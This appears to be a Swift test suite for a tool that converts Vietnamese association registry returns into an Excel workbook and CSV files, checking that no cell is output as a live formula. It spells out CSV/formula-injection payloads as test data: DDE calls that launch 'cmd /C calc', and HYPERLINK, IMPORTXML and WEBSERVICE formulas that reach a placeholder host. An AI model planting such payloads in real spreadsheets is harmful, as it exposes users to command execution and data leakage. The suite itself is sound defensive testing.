import Foundation
import Testing

/// Names that a spreadsheet would run as formulas come out as text.
@Suite struct FormulaTests {
  /// Names that begin like a formula; some are taken, some rejected.
  static let names = [
    "=1+1 Hội Người mù", "+1+cmd|' /C calc'!A0 Hội Y học", "@SUM(1+1) Hội Luật gia",
    "-2+3 Hội Nhà văn", "=1+1", "+1+1", "-1+1", "@1", "=A1",
  ]

  @Test func `Nothing in the workbook or in the files for Excel is a formula`() throws {
    let input = try Scratch.folder()
    let header = ["Tên hội", "Phạm vi hoạt động", "Giao nhiệm vụ"]
    let rows = Self.names.map { [$0, "Toàn quốc", "x"] }
    try Scratch.write(Returns.csv([header] + rows), to: input.appending(path: "2023-H1/TW/TW.csv"))
    let output = Output(url: try Scratch.folder())
    #expect(try Command.run(input: input, output: output.url).outcome().status == 0)

    let workbook = try Workbook(output.file("so-hoi.xlsx"))
    #expect(workbook.formulas == 0)
    #expect(workbook.parts.keys.allSatisfy { !$0.contains("externalLink") })
    let printed = try workbook.rows(of: "B11").map { $0[1] }
    let rejects = try Table(output.file("rejects/2023-H1/TW/TW.csv.csv"))
    for cell in rejects.rows.joined() {
      let isLive = cell.first.map { "=+-@\t\r".contains($0) } ?? false
      #expect(!isLive, "\(cell)")
    }
    // Both ways out are taken, and every name takes one as plain text, without the mark in a table.
    #expect(!printed.isEmpty && !rejects.rows.isEmpty)
    for name in Self.names {
      let isRejected = rejects["Giá trị (value)"].contains("'" + name)
      #expect(printed.contains(.text(String(name.dropFirst()))) != isRejected, "\(name)")
    }
    let findings = try output.table("quality/findings.csv")
    #expect(findings["rule"].contains("C-NAME-MARKS"))
  }

  /// How a cell can begin, or go on behind what some spreadsheets divide lines at.
  static let openings = [
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "Hội A;=", "Hội A; @",
    "Hội A\t+", "Hội A\r\n=", "\"=", "Hội A\";=", "=\"", "-=",
  ]
  static let bodies = [
    "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.vn/?\"&A1,\"Hội\")",
    "SUM(1+1)*cmd|' /C calc'!A0",
    "IMPORTXML(\"http://x.vn\",\"//a\")", "DDE(\"cmd\";\"/C calc\";\"x\")",
    "WEBSERVICE(\"http://x.vn\")",
    "1+1 Hội Người mù", "2-1;=2+2 Hội Luật gia", "A1",
  ]
  static let payloads = openings.flatMap { opening in bodies.map { opening + $0 } }

  /// Every column a return can have, as forms head it.
  static let header = [
    "Số thứ tự", "Mã hội", "Tên hội", "Tên viết tắt", "Phạm vi hoạt động", "Loại hình hội",
    "Được giao nhiệm vụ", "Tỉnh/Thành phố", "Quận/Huyện", "Xã/Phường", "Địa bàn", "Ngày thành lập",
    "Quyết định thành lập", "Trụ sở", "Điện thoại", "Chủ tịch hội", "Số hội viên",
    "Hội viên tổ chức",
    "Tổ chức đảng", "Số đảng viên", "Đảng đoàn", "Biên chế", "Kinh phí NSNN cấp",
    "Kinh phí tự huy động", "Nhiệm kỳ", "Năm đại hội", "Tình trạng sáp nhập", "Sáp nhập vào",
    "Kiến nghị", "Cơ quan giải quyết", "Kỳ báo cáo", "Đơn vị báo cáo", "Ghi chú",
  ]

  @Test func `No payload in any field comes out alive, whatever a line is divided at`() throws {
    #expect(Self.payloads.count == 200)
    let input = try Scratch.folder()
    let names = ["Hội Người mù", "Hội Luật gia", "Hội Nhà báo", "Hội Đông y"]
    let rows = Self.header.indices.flatMap { column in
      Self.payloads.enumerated().map { index, payload in
        var row = Self.header.map { _ in "" }
        row[2] = names[index % names.count]
        row[4] = "Toàn quốc"
        row[6] = "x"
        row[column] = payload
        return row
      }
    }
    try Scratch.write(
      Returns.csv([Self.header] + rows), to: input.appending(path: "2023-H1/TW/TW.csv"))
    let output = Output(url: try Scratch.folder())
    #expect(try Command.run(input: input, output: output.url).outcome().status == 0)
    let profile = try #require(
      try output.table("quality/returns.csv").row("records", "\(rows.count)"))
    #expect(profile["mapped_columns"] == "\(Self.header.count)")

    var checked = 0
    for (path, data) in try output.released() where path.hasSuffix(".csv") {
      for cell in Table(text: [UInt8](data)).rows.joined() {
        let cells = cell.split { ";\t\r\n".contains($0) || $0 == "\r\n" }
        for part in cells { #expect(!Self.isLive(part), "\(path): \(cell)") }
        checked += 1
      }
    }
    #expect(checked > 10_000)
    #expect(try Workbook(output.file("so-hoi.xlsx")).formulas == 0)
  }

  /// Whether a spreadsheet would take a cell for a formula; numbers are none.
  private static func isLive(_ cell: Substring) -> Bool {
    let cell = cell.drop { $0 == " " }
    return cell.count > 1 && cell.first.map { "=+-@＝＋－＠".contains($0) } ?? false
      && Double(cell) == nil
  }

  @Test func `Names of files and headings of columns are no formulas either`() throws {
    let input = try Scratch.folder()
    let rows = [["Tên hội", "=1+1", "@SUM(A1)"], ["Hội Người mù", "x", "y"]]
    try Scratch.write(Returns.csv(rows), to: input.appending(path: "=cmd/2023-H1-TW/TW.csv"))
    let output = Output(url: try Scratch.folder())
    #expect(try Command.run(input: input, output: output.url).outcome().status == 0)
    for path in ["quality/returns.csv", "quality/findings.csv", "register/ledger.csv"] {
      let cells = try output.table(path).rows.joined()
      #expect(!cells.isEmpty)
      for cell in cells {
        #expect(!(cell.first.map { "=+-@\t\r".contains($0) } ?? false), "\(cell)")
      }
    }
  }
}
